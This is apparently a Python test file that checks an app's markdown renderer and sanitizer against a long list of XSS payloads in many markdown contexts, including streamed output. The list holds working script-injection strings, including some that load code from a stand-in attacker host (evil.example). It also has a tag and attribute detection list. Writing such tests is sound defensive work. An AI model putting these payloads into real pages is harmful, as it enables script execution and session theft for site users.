"""Whatever a model writes, nothing of it runs, and nothing is fetched: judged by a parser of HTML, not by eye."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rendering_texts import WITH_NOTES, Page, markdown

from insight_app.rendering.guard import clean
from insight_app.rendering.markdown import render
from insight_app.rendering.progress import START, GrowingText, advance

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<object data=javascript:alert(1)>",
    "<p style=background:url(javascript:alert(1))>x",
    "<div hx-get=/logout hx-trigger=load>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#x0a;script:alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "/settings",
    "https://x/\" onmouseover=\"alert(1)",
    "https://x/' onmouseover='alert(1)",
    "x\" autofocus onfocus=alert(1) x=\"",
    "</code></pre><script>alert(1)</script>",
    "\\text{<img src=x onerror=alert(1)>}",
    "\\href{javascript:alert(1)}{x}",
    "\\text{</mtext></math><script>alert(1)</script>}",
    "\\style{background:red}{x}\\class{y}{z}\\textcolor{red}{x}",
    "\\begin{align}a&=<script>\\tag{<img onerror=x>}\\end{align}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\"><script>alert(1)</script>",
)  # fmt: skip
PLACES = (
    "{}", "para {} text", "# {}", "- {}\n- x", "1. {}", "> {}", "- [ ] {}", "|{}|\n|---|\n|{}|", "*{}*", "`{}`",
    "    {}", "```\n{}\n```", "```{}\ncode\n```", "```py {}\ncode\n```", "~~~{}\n", "[x]({})", "[x](<{}>)",
    "[x](https://y '{}')", "[{}](https://y)", "![x]({})", "![x](<{}>)", "![{}](https://y)",
    "![x](https://y \"{}\")", "<{}>", "[![x]({})]({})", "[a]\n\n[a]: {}", "[a]\n\n[a]: <{}> '{}'",
    "[{0}]\n\n[{0}]: https://y", "${}$", "$${}$$", "\\({}\\)", "\\[{}\\]", "```math\n{}\n```", "```html\n{}\n```",
    "```svg\n{}\n```", "- a\n\n  {}", "<div>\n{}\n</div>", "~~{}~~",
    "a[^1]\n\n[^1]: {}", "a[^1]\n\n[^1]: b\n\n    {}", "a[^{0}]\n\n[^{0}]: b",
)  # fmt: skip
# Where notes are, and what leads to them.
OUR_NOTE = re.compile(r"#?text-(note|ref)-[0-9]+(-[0-9]+)?")
HARMLESS = {"http", "https", "mailto"}
FETCHING = {
    "src",
    "srcset",
    "data",
    "action",
    "formaction",
    "background",
    "poster",
    "xlink:href",
    "style",
    "id",
    "name",
}


class Inspector(HTMLParser):
    """Collects what a page must not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "svg",
            "form",
            "base",
            "link",
            "meta",
            "img",
            "template",
        }:
            self.found.append(tag)
        for name, value in attrs:
            is_ours = OUR_NOTE.fullmatch(value or "") is not None
            if name.startswith(("on", "hx-")) or (name in FETCHING and not (name == "id" and is_ours)):
                self.found.append(f"{tag} {name}")
            if name == "href" and not is_ours and (value or "").partition(":")[0] not in HARMLESS:
                self.found.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")


def dangers(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.found


def test_the_inspector_sees_what_is_dangerous() -> None:
    assert dangers('<img src=x onerror=y><a href="javascript:z">w</a><p style="a">') == [
        "img", "img src", "img onerror", "href=javascript:z", "p style",
    ]  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
def test_no_payload_survives(place: str) -> None:
    for payload in PAYLOADS:
        text = place.replace("{0}", "{}").replace("{}", payload)
        html = render(text)
        assert dangers(html) == [], text
        assert WITH_NOTES.clean(html) == html, text


@pytest.mark.parametrize("place", PLACES)
def test_no_payload_survives_while_it_is_streamed(place: str) -> None:
    for payload in PAYLOADS[::3]:
        text = place.replace("{0}", "{}").replace("{}", payload)
        growing, progress, page = GrowingText(), START, Page()
        for start in range(0, len(text), 5):
            growing.append(text[start : start + 5])
            step = advance(growing, progress, eager=True)
            page.take(step)
            progress = step.progress
            assert dangers(f"{page}{page.tail}") == [], text


@given(markdown, st.sampled_from(PAYLOADS), st.integers(0, 200))
def test_no_text_around_a_payload_helps_it(text: str, payload: str, at: int) -> None:
    assert dangers(render(text[:at] + payload + text[at:])) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_guard_alone_stops_what_is_raw(payload: str) -> None:
    assert dangers(clean(payload)) == []
